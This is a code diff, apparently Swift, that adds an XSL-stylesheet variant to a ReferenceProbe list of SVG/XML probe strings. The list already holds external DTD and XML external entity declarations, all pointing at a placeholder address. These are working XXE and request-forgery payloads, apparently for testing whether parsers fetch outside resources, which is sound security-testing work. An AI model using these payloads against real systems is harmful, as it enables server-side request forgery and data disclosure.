@@ -97,6 +97,7 @@ extension ReferenceProbe {
 
     private static let drawings = [
         "xml-stylesheet": "<?xml-stylesheet type='text/css' href='ADDRESS'?>" + svg + "/>",
+        "xml-transformation": "<?xml-stylesheet type='text/xsl' href='ADDRESS'?>" + svg + "/>",
         "xml-external-dtd": "<!DOCTYPE svg SYSTEM 'ADDRESS'>" + svg + "/>",
         "xml-external-entity": "<!DOCTYPE svg [<!ENTITY a SYSTEM 'ADDRESS'>]>" + svg + "/>",
         "xml-entity-value": "<!DOCTYPE svg [<!ENTITY a 'ADDRESS'>]>" + svg + "/>",
